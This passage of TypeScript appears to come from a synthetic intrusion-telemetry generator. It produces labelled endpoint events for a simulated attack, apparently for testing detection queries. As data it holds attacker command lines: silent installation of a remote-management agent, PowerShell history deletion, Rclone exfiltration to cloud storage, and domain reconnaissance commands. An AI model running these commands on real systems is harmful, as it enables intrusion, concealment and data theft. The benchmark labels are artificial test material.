    lateralEnd = lt;
    if (rng.chance(0.6)) {
      alert(7, lt + rng.int(5 * MIN), {
        title: 'Hands-on-keyboard attack involving multiple devices',
        category: 'LateralMovement',
        severity: 'High',
        service: 'Microsoft Defender for Endpoint',
        detection: 'EDR',
        techniques: ['Windows Remote Management (T1021.006)', 'Valid Accounts (T1078)'],
        evidence: [machineEvidence(dev), ...targets.map(machineEvidence), userEvidence(victim)],
      });
    }
  }

  // Stage 8: the RMM agent, installed with msiexec on several hosts within minutes.
  const rmmHosts: { dev: Device; parent: Proc }[] = [];
  let rt = lateralEnd + 4 * MIN + rng.int(12 * MIN);
  if (v.rmm) {
    if (plan.partial === 'rmm-direct') rmmHosts.push({ dev, parent: shell });
    else {
      rmmHosts.push({ dev, parent: shell });
      for (const target of targets) {
        const wsm = wsmOn.get(target);
        if (wsm && (target.role !== 'domain-controller' || rng.chance(0.5))) rmmHosts.push({ dev: target, parent: wsm });
      }
    }
    if (plan.partial === 'rmm-direct') rt = lastRecon + 2 * MIN + rng.int(5 * MIN);
    const key = rng.hex(24);
    for (const h of rmmHosts) {
      touched.add(h.dev.name);
      const msi = `C:\\Windows\\Temp\\${rng.pick(['level', 'agent', 'setup'])}_${rng.hex(4)}.msi`;
      add(8, fileEv(h.dev, rt, h.parent, msi, { sha256: 'c1b9' + rng.hex(60), size: 14_000_000 + rng.int(2_000_000) }));
      const client = spawn(org, rng, IMG.msiexec, `"C:\\Windows\\system32\\msiexec.exe" /i ${msi} LEVEL_API_KEY=${key} /qn`, rt + 3 * SEC, h.parent);
      const server = spawn(org, rng, IMG.msiexec, 'C:\\Windows\\system32\\msiexec.exe /V', rt + 4 * SEC, h.dev.procs.services, SYSTEM, 'System', 'TokenElevationTypeDefault');
      add(8, procEv(h.dev, client), procEv(h.dev, server));
      const level = new Image('level.exe', 'C:\\Program Files\\Level', { company: 'Level Software, Inc.', product: 'Level', version: '0.3.12', description: 'Level Agent', size: 21_443_072, signer: 'ThirdParty' });
      add(8, fileEv(h.dev, rt + 8 * SEC, server, level.path, { image: level }));
      add(8, regEv(h.dev, rt + 9 * SEC, server, 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\Level', { action: 'RegistryKeyCreated' }));
      add(8, regEv(h.dev, rt + 9 * SEC + 50_000, server, 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\Level', { type: 'ExpandString', name: 'ImagePath', data: `"${level.path}" service` }));
      const agent = spawn(org, rng, level, `"${level.path}" service`, rt + 15 * SEC, h.dev.procs.services, SYSTEM, 'System', 'TokenElevationTypeDefault');
      add(8, procEv(h.dev, agent));
      for (let i = 0; i < 3; i++) add(8, netEv(h.dev, rt + 17 * SEC + i * 40 * SEC, agent, `44.${rng.range(190, 230)}.${rng.range(1, 254)}.${rng.range(1, 254)}`, 443, { jUrl: '"agents.level.io"' }, rng));
      rmmOn.set(h.dev, agent);
      rt += 40 * SEC + rng.int(3 * MIN);
    }
  }

  // Extra: PowerShell history deletion on the victim's device.
  if (v.historyDeletion) {
    const ht = Math.max(lateralEnd, lastRecon + 3 * MIN) + 2 * MIN + rng.int(5 * MIN);
    const ps = spawn(org, rng, IMG.powershell, 'powershell.exe -nop -c "Remove-Item (Get-PSReadlineOption).HistorySavePath -Force"', ht, shell);
    story.add(extras.historyDeletion, procEv(dev, ps));
    story.add(extras.historyDeletion, fileEv(dev, ht + SEC, ps, `${home}\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt`, { action: 'FileDeleted' }));
  }

  // Stage 9: Rclone from the file server (or, bypassing lateral movement, from the victim's device).
  if (v.exfil && plan.exfilAt !== null) {
    const xdev = plan.partial === 'rmm-direct' ? dev : org.fileServer;
    touched.add(xdev.name);
    const agent = rmmOn.get(xdev) ?? xdev.procs.services;
    const xt = plan.exfilAt;
    const rc = v.exfil.fileName === 'rclone.exe' ? IMG.rclone.at('C:\\ProgramData\\rc') : IMG.rclone.renamed(v.exfil.fileName, 'C:\\ProgramData\\rc');
    add(9, fileEv(xdev, xt - 3 * MIN, agent, rc.path, { image: rc }));
    add(9, fileEv(xdev, xt - 2 * MIN, agent, 'C:\\ProgramData\\rc\\rclone_uploader.conf', { sha256: rng.hex(64), size: 412 }));
    const cmd = spawn(org, rng, IMG.cmd, `C:\\Windows\\system32\\cmd.exe /c cd /d C:\\ProgramData\\rc && ${v.exfil.fileName} copy`, xt - 5 * SEC, agent);
    const rcProc = spawn(org, rng, rc, v.exfil.commandLine, xt, cmd);
    add(9, procEv(xdev, cmd), procEv(xdev, rcProc));
    const storage = v.exfil.commandLine.includes('mega:') ? { host: 'gfs270n112.userstorage.mega.co.nz', ip: '66.203.125' } : v.exfil.commandLine.includes('wasabi:') ? { host: 's3.eu-central-1.wasabisys.com', ip: '130.117.252' } : { host: `${rng.hex(32)}.r2.cloudflarestorage.com`, ip: '104.18.8' };
    let nt = xt + 2 * SEC;
    for (let i = 0; i < 12 + rng.int(20); i++) {
      add(9, netEv(xdev, nt, rcProc, `${storage.ip}.${rng.range(2, 250)}`, 443, { jUrl: J(storage.host) }, rng));
      nt += 20 * SEC + rng.int(3 * MIN);
    }
    if (rng.chance(0.5)) {
      alert(9, xt + 10 * MIN + rng.int(20 * MIN), {
        title: 'Possible data exfiltration',
        category: 'Exfiltration',
        severity: 'High',
        service: 'Microsoft Defender for Endpoint',
        detection: 'EDR',
        techniques: ['Exfiltration to Cloud Storage (T1567.002)'],
        evidence: [machineEvidence(xdev), { entityType: 'Process', role: 'Related', fields: { FileName: v.exfil.fileName, FolderPath: rc.path, ProcessCommandLine: v.exfil.commandLine, DeviceId: xdev.id, DeviceName: xdev.name } }, { entityType: 'Url', role: 'Related', fields: { RemoteUrl: storage.host } }],
      });
    }
  }
  return finish();

  function finish(): BuiltIntrusion {
    return {
      events: story.events,
      label(): IntrusionLabel {
        const stageLabel = (s: RowSet): StageLabel => ({ present: !s.empty, reportIds: s.toJSON(), first: firstOf(s, org.clock) });
        const stages: Record<string, StageLabel> = {};
        for (let s = 1; s <= 9; s++) stages[String(s)] = stageLabel(stage[s]!);
        return {
          id: plan.id,
          victim: { user: { oid: victim.oid, upn: victim.upn, sid: victim.sid, name: victim.display }, device: { id: dev.id, name: dev.name } },
          variant: v,
          stages,
          extras: { mailbomb: stageLabel(extras.mailbomb), historyDeletion: stageLabel(extras.historyDeletion) },
          devicesTouched: [...touched].sort(),
          firstDomainControllerInteraction: Number.isFinite(dcFirst) ? org.clock.fmt(dcFirst) : null,
        };
      },
    };
  }
}


interface ReconCommand {
  line: string;
  image: Image | null;
  child?: string;
}

const WHOAMI: readonly ReconCommand[] = [
  { line: 'whoami', image: IMG.whoami, child: 'whoami' },
  { line: 'whoami /all', image: IMG.whoami },
  { line: 'whoami /groups', image: IMG.whoami },
  { line: 'whoami /priv', image: IMG.whoami },
];

/** The seed's reconnaissance commands; every line contains one of queries H/J's terms as a whole word or phrase. */
const RECON: readonly ReconCommand[] = [
  { line: 'hostname', image: IMG.hostname },
  { line: 'systeminfo', image: IMG.systeminfo },
  { line: 'ver', image: null },
  { line: 'wmic os get Caption,Version,BuildNumber', image: IMG.wmic },
  { line: 'reg query HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion /v ProductName', image: IMG.reg },
  { line: 'query user', image: IMG.quser, child: 'quser' },
  { line: 'net user {sam} /domain', image: IMG.net },
  { line: 'nltest /dclist:{domain}', image: IMG.nltest },
  { line: 'nltest /domain_trusts', image: IMG.nltest },
  { line: 'ipconfig /all', image: IMG.ipconfig },
  { line: 'arp -a', image: IMG.arp },
  { line: 'route print', image: IMG.route },
];

const REMOTE_COMMANDS: readonly { line: string; image: Image }[] = [
  { line: '"C:\\Windows\\system32\\whoami.exe" /groups', image: IMG.whoami },
  { line: '"C:\\Windows\\system32\\net.exe" group "Domain Admins" /domain', image: IMG.net },
  { line: '"C:\\Windows\\system32\\nltest.exe" /dsgetdc:corp.contoso.com', image: IMG.nltest },
  { line: '"C:\\Windows\\system32\\quser.exe"', image: IMG.quser },
];

/** A long base64-looking string (the encoded loader configuration). */
function base64ish(rng: Rng, length: number): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let out = '';
  while (out.length < length) {
    let x = rng.u32();
    for (let i = 0; i < 5 && out.length < length; i++) {
      out += alphabet[x & 63];
      x >>>= 6;
    }
  }
  return out + '==';
}
